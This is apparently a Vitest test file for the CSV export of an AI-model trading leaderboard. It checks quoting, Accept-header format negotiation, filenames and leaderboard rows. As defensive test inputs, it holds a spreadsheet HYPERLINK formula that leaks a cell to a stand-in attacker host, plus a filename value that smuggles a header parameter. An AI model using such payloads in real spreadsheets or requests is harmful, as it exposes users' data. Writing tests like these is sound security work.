/** The CSV writer and the choice of format, without a server. */
import { describe, expect, it } from 'vitest';
import { toCsv } from '../../src/http/csv.js';
import { exportFilename, negotiateFormat } from '../../src/http/export-format.js';
import { leaderboardCsv } from '../../src/http/results-csv.js';
import { parseCsv } from './results-csv-reader.js';

describe('toCsv', () => {
  it('writes RFC 4180: header, CRLF after every row, quotes only where needed, doubled inside', () => {
    const text = toCsv(
      ['model', 'note', 'value', 'flag', 'missing'],
      [
        ['alpha', 'plain', 10.5, true, null],
        ['be,ta', 'He said "buy"', -0.25, false, null],
        ['gamma', 'two\r\nlines\nand a CR\r', 0, false, ''],
      ],
    );
    expect(text).toBe(
      'model,note,value,flag,missing\r\n' +
        'alpha,plain,10.5,true,\r\n' +
        '"be,ta","He said ""buy""",-0.25,false,\r\n' +
        'gamma,"two\r\nlines\nand a CR\r",0,false,\r\n',
    );
    // And it reads back field for field.
    expect(parseCsv(text)).toEqual([
      ['model', 'note', 'value', 'flag', 'missing'],
      ['alpha', 'plain', '10.5', 'true', ''],
      ['be,ta', 'He said "buy"', '-0.25', 'false', ''],
      ['gamma', 'two\r\nlines\nand a CR\r', '0', 'false', ''],
    ]);
  });

  it('writes a header alone when there are no rows', () => {
    expect(toCsv(['a', 'b'], [])).toBe('a,b\r\n');
  });
});

describe('negotiateFormat', () => {
  it('takes format= over any Accept header', () => {
    expect(negotiateFormat('json', 'text/csv')).toBe('json');
    expect(negotiateFormat('csv', 'application/json')).toBe('csv');
  });

  it('gives CSV only to an Accept header that prefers it', () => {
    expect(negotiateFormat(undefined, 'text/csv')).toBe('csv');
    expect(negotiateFormat(undefined, 'text/csv, application/json;q=0.5')).toBe('csv');
    expect(negotiateFormat(undefined, 'application/json;q=0.9, text/*')).toBe('csv');
    expect(negotiateFormat(undefined, 'application/json, text/csv')).toBe('json');
    expect(negotiateFormat(undefined, 'text/csv;q=0.5, application/json')).toBe('json');
    expect(negotiateFormat(undefined, '*/*')).toBe('json');
    // A browser's: everything at 0.8 through the wildcard, so no preference for CSV.
    expect(
      negotiateFormat(undefined, 'text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8'),
    ).toBe('json');
    // The most specific range counts: text/csv refused outright despite the wildcard.
    expect(negotiateFormat(undefined, 'text/csv;q=0, */*')).toBe('json');
    expect(negotiateFormat(undefined, undefined)).toBe('json');
    expect(negotiateFormat(undefined, '')).toBe('json');
  });
});

describe('exportFilename', () => {
  it('names the export with the dates it covers, once when they are equal', () => {
    expect(exportFilename('results', '2025-10-01', '2025-10-03')).toBe('results_2025-10-01_2025-10-03.csv');
    expect(exportFilename('results', '2025-10-01', '2025-10-01')).toBe('results_2025-10-01.csv');
    expect(exportFilename('trades', undefined, '2025-10-03')).toBe('trades_2025-10-03.csv');
    expect(exportFilename('leaderboard', null, null)).toBe('leaderboard.csv');
  });

  it('leaves out anything that is not a date, so the header`s quotes hold', () => {
    expect(exportFilename('results', '2025-10-01"; x=y', undefined)).toBe('results.csv');
  });
});

describe('leaderboardCsv', () => {
  it('ranks the entries, leaves the benchmark unranked and writes nulls as empty fields', () => {
    const entry = {
      model: 'alpha',
      starting_value: 10000,
      ending_value: 10300,
      period_return_pct: 3,
      trades: 2,
      turnover: 0.4902,
      prompt_tokens: 150,
      completion_tokens: 30,
      cost_usd: 0.003,
      max_drawdown_pct: 0,
      max_drawdown_start: null,
      max_drawdown_end: null,
      sharpe: 34.1285,
      calmar: null,
      alpha_pct: 25200,
      beta: -99,
      superseded_dates: ['2025-10-01', '2025-10-02'],
    };
    const text = leaderboardCsv({
      market: 'us',
      currency: { code: 'USD', symbol: '$', decimals: 2 },
      start_date: '2025-10-01',
      end_date: '2025-10-02',
      entries: [entry],
      benchmark: {
        ...entry,
        model: 'QQQ (benchmark)',
        trades: null,
        turnover: null,
        prompt_tokens: null,
        completion_tokens: null,
        cost_usd: null,
        alpha_pct: 0,
        beta: 1,
        superseded_dates: [],
      },
    });
    expect(text.split('\r\n')).toEqual([
      'rank,model,start_date,end_date,starting_value,ending_value,period_return_pct,trades,turnover,' +
        'max_drawdown_pct,max_drawdown_start,max_drawdown_end,sharpe,calmar,alpha_pct,beta,prompt_tokens,' +
        'completion_tokens,cost_usd,superseded_dates',
      '1,alpha,2025-10-01,2025-10-02,10000,10300,3,2,0.4902,0,,,34.1285,,25200,-99,150,30,0.003,2025-10-01 2025-10-02',
      ',QQQ (benchmark),2025-10-01,2025-10-02,10000,10300,3,,,0,,,34.1285,,0,1,,,,',
      '',
    ]);
  });
});

describe('toCsv and spreadsheet formulas', () => {
  it.each(['=HYPERLINK("http://attacker.example/?leak="&A2,"x")', '+1+1', '-2+3', '@SUM(A1)', '\tx', '\rx'])(
    'writes the text %j with a leading quote, so it is not a formula',
    (text) => {
      const [, row] = parseCsv(toCsv(['cell'], [[text]]));
      expect(row).toEqual([`'${text}`]);
    },
  );

  it('leaves numbers, including negative ones, and ordinary text as they are', () => {
    expect(toCsv(['a', 'b', 'c', 'd'], [[-12.5, 'AAPL:10 MSFT:5', '2025-10-01', 'a=b']])).toBe(
      'a,b,c,d\r\n-12.5,AAPL:10 MSFT:5,2025-10-01,a=b\r\n',
    );
  });
});
